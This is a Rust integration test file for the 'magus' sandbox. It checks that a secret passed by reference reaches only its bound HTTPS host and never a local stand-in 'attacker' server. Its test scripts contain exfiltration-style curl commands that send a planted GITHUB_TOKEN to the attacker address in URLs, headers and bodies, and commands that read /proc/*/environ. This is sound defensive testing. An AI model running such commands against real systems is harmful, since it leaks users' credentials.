@@ -1,0 +1,546 @@
+//! Secrets by reference through the real `magus` binary, as root and as
+//! uid 65534 (docs/secrets.md): two local HTTPS servers under a test CA of
+//! their own (magus trusts it through `SSL_CERT_FILE`), one standing in
+//! for the bound host (`localhost`), one for an attacker's (`127.0.0.1`).
+//! The bound host gets the real value (Bearer and Basic); the spell and
+//! its children only ever see the placeholder; the attacker's server gets
+//! neither the value nor (where the proxy can see it) the placeholder;
+//! requests outside the rules are refused. Each attack has a control run
+//! without magus's secrets that does leak the value.
+
+mod support;
+
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use support::{can_switch_user, capture, open_to_everyone, Harness, RunOutput};
+
+/// The planted value: never in any output, file or request but the bound
+/// host's.
+const VALUE: &str = "ghp_PLANTEDsecretVALUE0123456789abcdef";
+
+/// An HTTPS server (python3) that logs every request (method, path,
+/// headers, body) to `log`, and answers `AUTH-OK` when its Authorization
+/// header is the real value (Bearer or Basic `user:VALUE`), else 401.
+struct Server {
+    child: Child,
+    port: u16,
+    log: PathBuf,
+}
+
+const SERVER: &str = r#"
+import http.server, ssl, sys, base64
+cert, key, log, value = sys.argv[1:5]
+class H(http.server.BaseHTTPRequestHandler):
+    def handle_any(self):
+        n = int(self.headers.get('Content-Length') or 0)
+        body = self.rfile.read(n) if n else b''
+        with open(log, 'ab') as f:
+            f.write(('%s %s\n%s\n' % (self.command, self.path, self.headers)).encode() + body + b'\n----\n')
+        auth = self.headers.get('Authorization') or ''
+        basic = 'Basic ' + base64.b64encode(('user:' + value).encode()).decode()
+        ok = auth in ('Bearer ' + value, basic)
+        out = b'AUTH-OK\n' if ok else b'NO-AUTH\n'
+        self.send_response(200 if ok else 401)
+        self.send_header('Content-Length', str(len(out)))
+        self.send_header('Connection', 'close')
+        self.end_headers()
+        self.wfile.write(out)
+    do_GET = do_POST = do_DELETE = handle_any
+    def log_message(self, *a): pass
+s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
+c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+c.load_cert_chain(cert, key)
+s.socket = c.wrap_socket(s.socket, server_side=True)
+print(s.server_address[1], flush=True)
+s.serve_forever()
+"#;
+
+impl Server {
+    fn start(dir: &Path, name: &str, ca: &TestCa, san: &str) -> Server {
+        let (cert, key) = ca.leaf(dir, name, san);
+        let log = dir.join(format!("{name}.log"));
+        std::fs::write(&log, "").unwrap();
+        let mut child = Command::new("python3")
+            .args(["-c", SERVER])
+            .arg(&cert)
+            .arg(&key)
+            .arg(&log)
+            .arg(VALUE)
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("python3 for the test servers");
+        let mut line = String::new();
+        BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        let port = line.trim().parse().expect("the server's port");
+        Server { child, port, log }
+    }
+
+    fn log(&self) -> String {
+        std::fs::read_to_string(&self.log).unwrap_or_default()
+    }
+
+    fn clear(&self) {
+        std::fs::write(&self.log, "").unwrap();
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// The test servers' own CA.
+struct TestCa {
+    issuer: rcgen::Issuer<'static, rcgen::KeyPair>,
+    pem: PathBuf,
+}
+
+impl TestCa {
+    fn new(dir: &Path) -> TestCa {
+        let key = rcgen::KeyPair::generate().unwrap();
+        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
+        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
+        params
+            .distinguished_name
+            .push(rcgen::DnType::CommonName, "magus test CA");
+        params.key_usages = vec![rcgen::KeyUsagePurpose::KeyCertSign];
+        let cert = params.self_signed(&key).unwrap();
+        let pem = dir.join("test-ca.pem");
+        std::fs::write(&pem, cert.pem()).unwrap();
+        TestCa {
+            issuer: rcgen::Issuer::new(params, key),
+            pem,
+        }
+    }
+
+    fn leaf(&self, dir: &Path, name: &str, san: &str) -> (PathBuf, PathBuf) {
+        let key = rcgen::KeyPair::generate().unwrap();
+        let params = rcgen::CertificateParams::new(vec![san.to_string()]).unwrap();
+        let cert = params.signed_by(&key, &self.issuer).unwrap();
+        let (c, k) = (
+            dir.join(format!("{name}.crt")),
+            dir.join(format!("{name}.key")),
+        );
+        std::fs::write(&c, cert.pem()).unwrap();
+        std::fs::write(&k, key.serialize_pem()).unwrap();
+        (c, k)
+    }
+}
+
+/// Who runs magus.
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum User {
+    Caller,
+    Nobody,
+}
+
+fn users() -> Vec<User> {
+    if can_switch_user() {
+        vec![User::Caller, User::Nobody]
+    } else {
+        eprintln!("uid 65534 part skipped: not root, or no setpriv");
+        vec![User::Caller]
+    }
+}
+
+/// Runs `probe.sh`, after saying what `env.get` gives the spell.
+const SPELL: &str = "import \"std\";\nimport \"env\";\nimport \"sh\";\nfun main(args: [str]) > int {\n    std.print(\"ENV.GET {env.get(\"GITHUB_TOKEN\") ?? \"null\"}\");\n    return sh.run([\"/bin/sh\", \"probe.sh\"]);\n}\n";
+
+/// The config: the spell `probe` with `GITHUB_TOKEN` bound to the bound
+/// server, GET and POST under `/api/` only; the attacker's address is a
+/// listed host (so only the secret's rules stop the placeholder).
+fn config(bound: u16, attacker: u16) -> String {
+    format!(
+        "sandbox:\n  enabled: true\n  network:\n    hosts: [\"127.0.0.1:{attacker}\"]\nspells:\n  probe:\n    network: {{hosts: [\"localhost:{bound}\"]}}\n    secrets:\n      - name: GITHUB_TOKEN\n        from: {{env: MAGUS_TEST_TOKEN}}\n        hosts: [\"localhost:{bound}\"]\n        rules: [{{methods: [GET, POST], paths: [\"/api/*\"]}}]\n"
+    )
+}
+
+/// `magus --message-format json run probe` as `user`, with the value in
+/// magus's environment and the test CA as its roots.
+fn run(h: &Harness, user: User, ca: &Path) -> RunOutput {
+    open_to_everyone(&h.root);
+    let mut cmd = match user {
+        User::Caller => h.command(),
+        User::Nobody => h.command_as_nobody(),
+    };
+    cmd.env("MAGUS_TEST_TOKEN", VALUE)
+        .env("SSL_CERT_FILE", ca)
+        .arg("--workspace")
+        .arg(&h.ws)
+        .args(["--message-format", "json", "run", "probe"]);
+    capture(&mut cmd)
+}
+
+fn harness(config: &str, script: &str) -> Harness {
+    let h = Harness::with_config(config);
+    h.write_spell("probe", SPELL);
+    std::fs::write(h.ws_path("probe.sh"), script).unwrap();
+    h
+}
+
+fn assert_value_nowhere(h: &Harness, out: &RunOutput, who: User) {
+    for (what, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+        assert!(
+            !text.contains(VALUE),
+            "{who:?}: the value in {what}: {}",
+            out.dump()
+        );
+    }
+    for file in support::regular_files(&h.ws) {
+        let text = String::from_utf8_lossy(&std::fs::read(&file).unwrap_or_default()).to_string();
+        assert!(
+            !text.contains(VALUE),
+            "{who:?}: the value in {}",
+            file.display()
+        );
+    }
+}
+
+fn codes(stderr: &str) -> Vec<String> {
+    stderr
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter_map(|v| v["code"].as_str().map(str::to_string))
+        .collect()
+}
+
+#[test]
+fn the_bound_host_gets_the_value_and_the_spell_only_the_placeholder() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
+    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
+    let script = format!(
+        "echo \"SEEN=$GITHUB_TOKEN\"\n\
+         grep -c PLANTED /proc/self/environ || true\n\
+         env | grep -E '^(SSL_CERT_FILE|CURL_CA_BUNDLE|NODE_EXTRA_CA_CERTS)=' | sort\n\
+         curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/api/bearer\n\
+         curl -sS --max-time 10 -u \"user:$GITHUB_TOKEN\" https://localhost:{b}/api/basic\n\
+         /usr/bin/python3 -c 'import os,urllib.request as u; r=u.Request(\"https://localhost:{b}/api/py\", headers={{\"Authorization\": \"Bearer \"+os.environ[\"GITHUB_TOKEN\"]}}); print(u.urlopen(r).read().decode().strip(), \"py\")'\n\
+         git -c http.extraHeader=\"Authorization: Bearer $GITHUB_TOKEN\" ls-remote https://localhost:{b}/api/repo.git >/dev/null 2>&1; echo GIT-DONE\n\
+         echo \"ENVIRONS $(cat /proc/[0-9]*/environ 2>/dev/null | grep -c PLANTED)\"\n\
+         echo END\n",
+        b = bound.port
+    );
+    for user in users() {
+        bound.clear();
+        let h = harness(&config(bound.port, attacker.port), &script);
+        let out = run(&h, user, &ca.pem);
+        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
+        assert!(
+            out.stdout.contains("ENV.GET magus-secret-"),
+            "{user:?}: env.get: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("SEEN=magus-secret-"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("\n0\n"),
+            "{user:?}: environ: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout
+                .contains("SSL_CERT_FILE=/tmp/magus-secrets-ca.pem"),
+            "{}",
+            out.dump()
+        );
+        assert_eq!(
+            out.stdout.matches("AUTH-OK").count(),
+            3,
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("AUTH-OK py"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        let log = bound.log();
+        // Bearer three times (curl, Python, git) as is; Basic as base64,
+        // checked by the server (its third AUTH-OK).
+        assert!(log.contains("User-Agent: git/"), "{user:?}: {log}");
+        assert!(
+            out.stdout.contains("ENVIRONS 0\n"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert_eq!(
+            log.matches(VALUE).count(),
+            3,
+            "{user:?}: the bound host's log: {log}"
+        );
+        assert!(!log.contains("magus-secret-"), "{user:?}: {log}");
+        assert_value_nowhere(&h, &out, user);
+        assert!(attacker.log().is_empty());
+    }
+}
+
+#[test]
+fn the_placeholder_goes_nowhere_else_and_rules_hold() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
+    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
+    let (b, a) = (bound.port, attacker.port);
+    let c = "curl -sS --max-time 10 -o /dev/null -w '%{http_code}\\n'";
+    let script = format!(
+        "{c} http://127.0.0.1:{a}/?t=$GITHUB_TOKEN\n\
+         {c} -H \"X-T: $GITHUB_TOKEN\" http://127.0.0.1:{a}/\n\
+         {c} -d \"t=$GITHUB_TOKEN\" http://127.0.0.1:{a}/\n\
+         {c} https://$GITHUB_TOKEN.localhost:{a}/\n\
+         {c} -X DELETE -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/api/x\n\
+         {c} -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/admin\n\
+         {c} -H \"Authorization: Bearer $GITHUB_TOKEN\" \"https://localhost:{b}/api/x?t=$GITHUB_TOKEN\"\n\
+         {c} -d \"t=$GITHUB_TOKEN\" -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/api/x\n\
+         {c} --cacert {ca} -H \"X-T: $GITHUB_TOKEN\" https://127.0.0.1:{a}/tunnel\n\
+         echo END\n",
+        ca = "/tmp/magus-secrets-ca.pem"
+    );
+    for user in users() {
+        bound.clear();
+        attacker.clear();
+        let h = harness(&config(b, a), &script);
+        let out = run(&h, user, &ca.pem);
+        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
+        let statuses: Vec<&str> = out
+            .stdout
+            .lines()
+            .filter(|l| l.len() == 3 && l.bytes().all(|b| b.is_ascii_digit()))
+            .collect();
+        // Plain HTTP (URL, header, body) and the name: refused by the
+        // proxy (403, or 000 where the CONNECT was refused).
+        assert_eq!(
+            &statuses[..3],
+            ["403", "403", "403"],
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert_ne!(statuses[3], "200", "{user:?}: {}", out.dump());
+        // The bound host: DELETE and /admin break the rules; the
+        // placeholder in its URL or body is refused.
+        assert_eq!(
+            &statuses[4..8],
+            ["403", "403", "403", "403"],
+            "{user:?}: {}",
+            out.dump()
+        );
+        let said = codes(&out.stderr);
+        assert!(
+            said.iter().filter(|c| *c == "MGS2013").count() >= 4,
+            "{user:?}: {said:?} {}",
+            out.dump()
+        );
+        assert!(
+            out.stderr.contains("breaks the secret's rules"),
+            "{}",
+            out.dump()
+        );
+        assert!(
+            out.stderr.contains("/api/*"),
+            "the rule is named: {}",
+            out.dump()
+        );
+        // The tunnel to the attacker's TLS server is not terminated: it
+        // carries at most the placeholder (which is worth nothing there).
+        let log = attacker.log();
+        assert!(!log.contains(VALUE), "{user:?}: {log}");
+        assert_eq!(
+            log.matches("magus-secret-").count(),
+            log.matches("/tunnel").count().min(1),
+            "{user:?}: only the tunnel: {log}"
+        );
+        assert!(
+            !bound.log().contains(VALUE),
+            "{user:?}: nothing refused got through: {}",
+            bound.log()
+        );
+        assert_value_nowhere(&h, &out, user);
+    }
+}
+
+/// The control: without magus's secrets (the sandbox off, the token in
+/// the environment as `env.passthrough` would give it), the same request
+/// hands the real value to the attacker.
+#[test]
+fn control_without_secrets_the_attacker_gets_the_value() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
+    let a = attacker.port;
+    let config = "sandbox:\n  enabled: false\n";
+    let script = format!("curl -sS --max-time 10 --cacert \"$CA\" -H \"X-T: $GITHUB_TOKEN\" https://127.0.0.1:{a}/\n");
+    let h = harness(config, &script);
+    let mut cmd = h.command();
+    cmd.env("GITHUB_TOKEN", VALUE)
+        .env("CA", &ca.pem)
+        .env("SSL_CERT_FILE", &ca.pem)
+        .arg("--workspace")
+        .arg(&h.ws)
+        .args(["run", "probe"]);
+    let out = capture(&mut cmd);
+    assert!(attacker.log().contains(VALUE), "control: {}", out.dump());
+}
+
+/// Without user namespaces there is no namespace to force traffic through
+/// the proxy: the spell does not run, and the value reaches no one.
+#[test]
+fn without_user_namespaces_a_spell_with_secrets_does_not_run() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
+    let script = format!(
+        "curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{}/api/x\n",
+        bound.port
+    );
+    let h = harness(&config(bound.port, 1), &script);
+    let mut cmd = h.command();
+    cmd.env("MAGUS_TEST_TOKEN", VALUE)
+        .env("MAGUS_SANDBOX_USERNS", "0")
+        .arg("--workspace")
+        .arg(&h.ws)
+        .args(["run", "probe"]);
+    let out = capture(&mut cmd);
+    assert_ne!(out.status, Some(0), "{}", out.dump());
+    assert!(
+        out.stderr.contains("cannot be kept from it here"),
+        "{}",
+        out.dump()
+    );
+    assert!(bound.log().is_empty(), "{}", bound.log());
+    assert_value_nowhere(&h, &out, User::Caller);
+}
+
+/// `from: {file: PATH}` outside the workspace is read by magus (its
+/// trailing newline dropped); a file inside the workspace, where spells
+/// can read it, is refused before anything runs.
+#[test]
+fn a_file_source_outside_the_workspace_works_and_one_inside_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
+    let b = bound.port;
+    let token = dir.path().join("token");
+    std::fs::write(&token, format!("{VALUE}\n")).unwrap();
+    let script = format!(
+        "curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/api/file\n"
+    );
+    let with_file = |path: &Path| {
+        format!(
+            "sandbox:\n  enabled: true\n  network: deny\nspells:\n  probe:\n    network: {{hosts: [\"localhost:{b}\"]}}\n    secrets:\n      - name: GITHUB_TOKEN\n        from: {{file: {:?}}}\n        hosts: [\"localhost:{b}\"]\n",
+            path.display().to_string()
+        )
+    };
+    let h = harness(&with_file(&token), &script);
+    let mut cmd = h.command();
+    cmd.env("SSL_CERT_FILE", &ca.pem)
+        .arg("--workspace")
+        .arg(&h.ws)
+        .args(["run", "probe"]);
+    let out = capture(&mut cmd);
+    assert_eq!(out.status, Some(0), "{}", out.dump());
+    assert!(out.stdout.contains("AUTH-OK"), "{}", out.dump());
+    assert_eq!(bound.log().matches(VALUE).count(), 1, "{}", bound.log());
+    assert_value_nowhere(&h, &out, User::Caller);
+
+    bound.clear();
+    let h = harness("sandbox:\n  enabled: true\n", &script);
+    let inside = h.ws_path("token.txt");
+    std::fs::write(&inside, VALUE).unwrap();
+    h.write_config(&with_file(&inside));
+    let mut cmd = h.command();
+    cmd.env("SSL_CERT_FILE", &ca.pem)
+        .arg("--workspace")
+        .arg(&h.ws)
+        .args(["run", "probe"]);
+    let out = capture(&mut cmd);
+    assert_ne!(out.status, Some(0), "{}", out.dump());
+    assert!(
+        out.stderr.contains("inside the workspace"),
+        "{}",
+        out.dump()
+    );
+    assert!(bound.log().is_empty(), "{}", bound.log());
+}
+
+/// A spell without `secrets:` is as before: no CA file, no CA variable,
+/// no placeholder; its TLS to a listed host is a plain tunnel (the
+/// server's own certificate, trusted through the test CA, is what the
+/// client sees).
+#[test]
+fn a_spell_without_secrets_gets_no_ca_and_no_termination() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
+    let b = bound.port;
+    let config = format!(
+        "sandbox:\n  enabled: true\n  env:\n    passthrough: [CA_PEM]\n  network:\n    hosts: [\"localhost:{b}\"]\n"
+    );
+    let script = format!(
+        "test -e /tmp/magus-secrets-ca.pem && echo CA-FILE\n\
+         env | grep -E '^(SSL_CERT_FILE|CURL_CA_BUNDLE|GITHUB_TOKEN)=' || echo NO-CA-VARS\n\
+         printf '%s' \"$CA_PEM\" > \"$TMPDIR/ca.pem\"\n\
+         curl -sS --max-time 10 --cacert \"$TMPDIR/ca.pem\" https://localhost:{b}/api/x\n"
+    );
+    for user in users() {
+        let h = harness(&config, &script);
+        open_to_everyone(&h.root);
+        let mut cmd = match user {
+            User::Caller => h.command(),
+            User::Nobody => h.command_as_nobody(),
+        };
+        cmd.env("CA_PEM", std::fs::read_to_string(&ca.pem).unwrap())
+            .arg("--workspace")
+            .arg(&h.ws)
+            .args(["run", "probe"]);
+        let out = capture(&mut cmd);
+        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
+        assert!(!out.stdout.contains("CA-FILE"), "{user:?}: {}", out.dump());
+        assert!(
+            out.stdout.contains("NO-CA-VARS"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        // Only the server's own certificate (under the test CA) could
+        // have answered: no terminating proxy in between.
+        assert!(out.stdout.contains("NO-AUTH"), "{user:?}: {}", out.dump());
+    }
+}
+
+/// `magus sandbox check SPELL` lists the spell's secrets (names, sources,
+/// hosts, rules) and never a value, in human output and JSON.
+#[test]
+fn sandbox_check_lists_the_secrets_without_values() {
+    let h = harness(&config(8443, 9443), "true\n");
+    for json in [false, true] {
+        let mut cmd = h.command();
+        cmd.env("MAGUS_TEST_TOKEN", VALUE)
+            .arg("--workspace")
+            .arg(&h.ws);
+        if json {
+            cmd.args(["--message-format", "json"]);
+        }
+        let out = capture(cmd.args(["sandbox", "check", "probe"]));
+        assert_eq!(out.status, Some(0), "{}", out.dump());
+        assert!(
+            out.stdout.contains("GITHUB_TOKEN from env:MAGUS_TEST_TOKEN hosts [localhost:8443] rules [{methods: [GET, POST], paths: [\\\"/api/*\\\"]}]")
+                || out.stdout.contains("GITHUB_TOKEN from env:MAGUS_TEST_TOKEN hosts [localhost:8443] rules [{methods: [GET, POST], paths: [\"/api/*\"]}]"),
+            "{}",
+            out.dump()
+        );
+        assert!(
+            !out.stdout.contains(VALUE) && !out.stderr.contains(VALUE),
+            "{}",
+            out.dump()
+        );
+    }
+}
